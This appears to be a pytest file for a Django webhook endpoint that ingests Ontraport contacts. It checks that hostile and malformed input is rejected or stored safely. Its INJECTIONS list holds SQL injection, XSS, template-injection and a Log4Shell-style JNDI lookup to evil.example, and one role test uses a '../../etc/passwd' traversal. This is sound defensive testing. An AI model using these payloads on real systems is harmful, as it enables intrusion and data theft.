"""Hostile and malformed input, beyond what tests/webhooks/test_endpoint.py already proves: each case gets
a clear answer, is recorded (or, without the key, refused and not stored), and changes nothing it must not.
The full table, with the endpoint tests it builds on, is in docs/reliability.md."""

import json
from urllib.parse import urlencode

import pytest
from django.contrib.auth import get_user_model
from django.db import connection
from django.urls import reverse

from tests.support.admin_clients import superuser_client
from tests.support.factories import FieldMappingFactory, UserFactory
from tests.support.webhooks import ACCESS_KEY
from webhooks.models import Delivery

pytestmark = pytest.mark.django_db(transaction=True, serialized_rollback=True)
User = get_user_model()

INJECTIONS = [
    "'; DROP TABLE accounts_user; --",
    "Robert'); DELETE FROM webhooks_delivery WHERE ('1'='1",
    '<script>alert("x")</script>',
    '"><img src=x onerror=alert(1)>',
    "{{ settings.SECRET_KEY }}{% debug %}",
    "${jndi:ldap://evil.example/a}",
]


def query(**params: object) -> str:
    return "/?" + urlencode({"access_key": ACCESS_KEY, **params})


# --- the access key -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "raw_query",
    [
        f"wpf_action=add&contact_id=1&access_key={ACCESS_KEY}%00",
        f"wpf_action=add&contact_id=1&access_key=%20{ACCESS_KEY}",
        f"wpf_action=add&contact_id=1&ACCESS_KEY={ACCESS_KEY}",
        f"wpf_action=add&contact_id=1&access_key[]={ACCESS_KEY}",
        "wpf_action=add&contact_id=1&access_key=%F0%9F%94%91" * 3,
    ],
    ids=["trailing-NUL", "leading-space", "name-upper-case", "array-syntax", "emoji-repeated"],
)
def test_near_miss_keys_are_refused_and_nothing_is_stored(site_sandbox, client, access_key, raw_query):
    response = client.get(f"/?{raw_query}")
    assert response.status_code == 403
    assert Delivery.objects.count() == 0
    assert User.objects.count() == 0


def test_the_key_repeated_with_the_same_value_is_accepted(site_sandbox, client, access_key):
    response = client.get(f"/?wpf_action=add&contact_id=1&access_key={ACCESS_KEY}&access_key={ACCESS_KEY}")
    assert response.status_code == 202
    assert User.objects.filter(contact_id=1).count() == 1


@pytest.mark.parametrize("value", [[ACCESS_KEY], {"k": ACCESS_KEY}, 12345, None, True])
def test_a_json_key_that_is_not_a_string_is_refused(site_sandbox, client, access_key, value):
    body = {"wpf_action": "add", "contact_id": 1, "access_key": value}
    response = client.post("/webhooks/ontraport/", data=body, content_type="application/json")
    assert response.status_code == 403
    assert Delivery.objects.count() == 0


# --- contact_id and wpf_action ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "status", "reason"),
    [
        ("1e3", 400, "invalid_contact_id"),
        ("0x1F", 400, "invalid_contact_id"),
        ("1_000", 400, "invalid_contact_id"),
        ("²", 400, "invalid_contact_id"),
        ("1\x00", 400, "invalid_contact_id"),
        ("9223372036854775808", 400, "invalid_contact_id"),  # one over the largest id every database holds
        (" 7 ", 202, ""),  # whitespace is forgiven
        ("9223372036854775807", 202, ""),  # the largest: accepted, fails later as not found
    ],
)
def test_more_contact_ids(site_sandbox, webhook, raw, status, reason):
    response = webhook("update_tags", raw)
    assert response.status_code == status
    delivery = Delivery.objects.get()
    if reason:
        assert (delivery.status, delivery.reason) == (Delivery.Status.REJECTED, reason)
    else:
        assert delivery.status in (Delivery.Status.DONE, Delivery.Status.FAILED)
    assert User.objects.count() == 0


def test_contact_id_repeated_with_the_same_value_is_accepted(site_sandbox, client, access_key):
    response = client.get(query(wpf_action="add") + "&contact_id=2&contact_id=2")
    assert response.status_code == 202
    assert User.objects.filter(contact_id=2).count() == 1


@pytest.mark.parametrize("value", [1.0, 1.5, True, [1], {"id": 1}, -1, 0])
def test_json_contact_ids_that_are_not_positive_integers_are_rejected(
    site_sandbox, client, access_key, value
):
    body = {"wpf_action": "add", "contact_id": value, "access_key": ACCESS_KEY}
    response = client.post("/webhooks/ontraport/", data=body, content_type="application/json")
    assert response.status_code == 400
    assert Delivery.objects.get().status == Delivery.Status.REJECTED
    assert User.objects.count() == 0


@pytest.mark.parametrize("action", ["add\x00", "ADD;DROP", "a" * 5000, "<b>add</b>", "add,update"])
def test_strange_actions_are_recorded_400s(site_sandbox, webhook, action):
    response = webhook(action, 1)
    assert response.status_code == 400
    assert response.json()["reason"] == "unknown_action"
    delivery = Delivery.objects.get()
    assert (delivery.status, delivery.action) == (Delivery.Status.REJECTED, Delivery.Action.INVALID)
    assert User.objects.count() == 0


def test_a_repeated_action_with_different_values_is_a_400(site_sandbox, client, access_key):
    response = client.get(query(contact_id=1) + "&wpf_action=add&wpf_action=update")
    assert (response.status_code, response.json()["reason"]) == (400, "ambiguous_parameter")
    assert User.objects.count() == 0


# --- bodies and content types -------------------------------------------------------------------------------


def test_a_1_mb_json_body_is_a_413_on_any_path(site_sandbox, client, access_key):
    body = json.dumps({"wpf_action": "add", "contact_id": 1, "access_key": ACCESS_KEY, "pad": "x" * 2**20})
    for path in ("/webhooks/ontraport/", "/", "/some/page/"):
        response = client.post(f"{path}?wpf_action=add", data=body, content_type="application/json")
        assert response.status_code == 413, path
    assert Delivery.objects.count() == 0


def test_a_1_mb_body_without_wpf_action_in_the_url_is_not_a_webhook(site_sandbox, client, access_key):
    body = json.dumps({"wpf_action": "add", "contact_id": 1, "access_key": ACCESS_KEY, "pad": "x" * 2**20})
    response = client.post("/some/page/", data=body, content_type="application/json")
    assert response.status_code != 500
    assert Delivery.objects.count() == 0


@pytest.mark.parametrize(
    ("content_type", "body"),
    [
        ("text/plain", f"wpf_action=add&contact_id=1&access_key={ACCESS_KEY}"),
        ("application/xml", f"<x><access_key>{ACCESS_KEY}</access_key></x>"),
        ("application/json", b'{"wpf_action": "add", "contact_id": "\xe9"}'),
        ("application/json", b"\xff\xfe\x00{"),
        ("application/json", b'["wpf_action", "add"]'),
        ("application/json", b'"just a string"'),
        ("multipart/form-data; boundary=xyz", b"--xyz\r\nnot really multipart"),
    ],
)
def test_bodies_of_the_wrong_type_are_answered_without_a_500(
    site_sandbox, client, access_key, content_type, body
):
    response = client.post("/webhooks/ontraport/", data=body, content_type=content_type)
    assert response.status_code in (400, 403)
    assert User.objects.count() == 0
    with_key = client.post(
        f"/webhooks/ontraport/?access_key={ACCESS_KEY}", data=body, content_type=content_type
    )
    assert with_key.status_code == 400
    assert User.objects.count() == 0


def test_nul_bytes_and_control_characters_everywhere_are_stored_cleanly(site_sandbox, client, access_key):
    raw = (
        f"/pa%00th/?wpf_action=update_tags&contact_id=1&access_key={ACCESS_KEY}"
        "&role=r%00%1b%5B31m&email=a%00b%40example.com&send_notification=tr%00ue&x%00=%00"
    )
    response = client.get(raw)
    assert response.status_code == 202
    delivery = Delivery.objects.get()
    stored = json.dumps(delivery.options) + delivery.path + delivery.message
    assert "\x00" not in stored and "\x1b" not in stored
    assert delivery.role == "r[31m"
    assert delivery.send_notification is False


# --- what Ontraport's contact carries ----------------------------------------------------------------------


def hostile_contact(sandbox, contact_id: int, text: str) -> None:
    sandbox.add_contact(
        {
            **sandbox.get_contact(1),
            "id": str(contact_id),
            "firstname": text,
            "lastname": text + "\x00\x07",
            "email": f"hostile{contact_id}@example.com",
            "company": text,
            "f1534": text,  # mapped to the username below
            "f1535": text,  # a profile value
        }
    )


def test_injection_strings_in_every_contact_field_are_stored_as_data_and_shown_escaped(
    site_sandbox, webhook, mailoutbox, settings
):
    FieldMappingFactory(ontraport_field="f1534", target="user", attribute="username")
    FieldMappingFactory(ontraport_field="company", target="profile", attribute="company")
    for n, text in enumerate(INJECTIONS, start=900):
        hostile_contact(site_sandbox, n, text)
        assert webhook("add", n, send_notification="true", role=text).status_code == 202

    deliveries = list(Delivery.objects.all())
    assert {d.status for d in deliveries} == {Delivery.Status.DONE}, [d.message for d in deliveries]
    assert User.objects.count() == len(INJECTIONS)  # no table was dropped, no row deleted
    for n, text in enumerate(INJECTIONS, start=900):
        user = User.objects.get(contact_id=n)
        assert (user.first_name, user.profile["company"]) == (text, text)
        assert user.last_name == text + "\x07"  # NUL removed (databases refuse it); the rest is data
        # None of these is a username the admin could save: each gives way to the configured format (the
        # e-mail), and the delivery says why (docs/identity.md, usernames).
        assert user.username == f"hostile{n}@example.com"
        assert "used FUSION_USERNAME_FORMAT instead" in Delivery.objects.get(contact_id=n).message
        assert list(user.groups.values_list("name", flat=True)) == ["subscriber"]
    assert settings.SECRET_KEY not in "".join(m.body for m in mailoutbox)

    admin = superuser_client()
    pages = [reverse("admin:accounts_user_changelist"), reverse("admin:webhooks_delivery_changelist")]
    pages += [
        reverse("admin:accounts_user_change", args=[u.pk]) for u in User.objects.filter(contact_id__gte=900)
    ]
    pages += [reverse("admin:webhooks_delivery_change", args=[d.pk]) for d in deliveries]
    for page in pages:
        html = admin.get(page).content.decode()
        assert "<script>alert" not in html and "<img src=x" not in html, page
    user_page = admin.get(reverse("admin:accounts_user_change", args=[User.objects.get(contact_id=902).pk]))
    assert "&lt;script&gt;alert(" in user_page.content.decode()


@pytest.mark.parametrize(
    ("email", "reason"),
    [
        ("not-an-e-mail", "invalid_email"),
        ("a@b@example.com", "invalid_email"),
        ("x" * 250 + "@example.com", "invalid_email"),
    ],
)
def test_invalid_emails_fail_with_the_reason(site_sandbox, webhook, email, reason):
    site_sandbox.add_contact({**site_sandbox.get_contact(2), "email": email})
    webhook("add", 2)
    delivery = Delivery.objects.get()
    assert (delivery.status, delivery.reason) == (Delivery.Status.FAILED, reason)
    assert User.objects.count() == 0


def test_a_duplicate_email_fails_naming_the_conflict(site_sandbox, webhook):
    webhook("add", 2)
    site_sandbox.add_contact({**site_sandbox.get_contact(3), "email": "LIAM.CHEN@example.com"})
    webhook("add", 3)
    delivery = Delivery.objects.order_by("-id").first()
    assert (delivery.status, delivery.reason) == (Delivery.Status.FAILED, "email_conflict")
    assert "liam.chen@example.com" in delivery.message.lower() and "contact 2" in delivery.message
    assert User.objects.count() == 1


def test_an_update_to_an_email_another_user_has_keeps_the_old_one(site_sandbox, webhook):
    webhook("add", 2)
    webhook("add", 3)
    site_sandbox.add_contact({**site_sandbox.get_contact(3), "email": "liam.chen@example.com"})
    webhook("update", 3)
    assert Delivery.objects.order_by("-id").first().status == Delivery.Status.DONE
    assert User.objects.get(contact_id=3).email == "sofia.martinez@example.org"


def test_a_mapped_username_that_is_taken_gets_digits(site_sandbox, webhook):
    FieldMappingFactory(ontraport_field="f1534", target="user", attribute="username")
    UserFactory(username="Dana", email="other@example.com")
    webhook("add", 1)  # f1534 = "dana": taken whatever the case
    assert User.objects.get(contact_id=1).username == "dana1"


def test_a_contact_with_thousands_of_tags(site_sandbox, webhook):
    tag_ids = range(10_000, 13_000)
    site_sandbox.add_contact(
        {**site_sandbox.get_contact(1), "contact_cat": "*/*" + "*/*".join(map(str, tag_ids)) + "*/*"}
    )
    assert webhook("add", 1).status_code == 202
    assert Delivery.objects.get().status == Delivery.Status.DONE
    assert User.objects.get(contact_id=1).tags.count() == 3000


@pytest.mark.parametrize("role", ["a" * 400, "sub\x00scriber", "../../etc/passwd", "Subscriber "])
def test_odd_roles_fall_back_or_resolve_safely(site_sandbox, webhook, role):
    assert webhook("add", 2, role=role).status_code == 202
    user = User.objects.get(contact_id=2)
    assert not (user.is_staff or user.is_superuser)
    assert user.groups.count() == 1


@pytest.mark.parametrize(
    ("spelling", "expected"),
    [
        ("on", True),
        ("y", True),
        (" Yes ", True),
        ("True", True),
        ("off", False),
        ("2", False),
        ("truthy", False),
    ],
)
def test_more_send_notification_spellings(site_sandbox, webhook, mailoutbox, spelling, expected):
    webhook("add", 2, send_notification=spelling)
    assert len(mailoutbox) == (1 if expected else 0)


@pytest.mark.skipif(connection.vendor != "postgresql", reason="PostgreSQL refuses NUL bytes in text")
def test_nul_bytes_in_contact_fields_do_not_wedge_the_delivery_on_postgresql(site_sandbox, webhook):
    site_sandbox.add_contact({**site_sandbox.get_contact(2), "firstname": "Li\x00am"})
    webhook("add", 2)
    assert Delivery.objects.get().status == Delivery.Status.DONE
    assert User.objects.get(contact_id=2).first_name == "Liam"
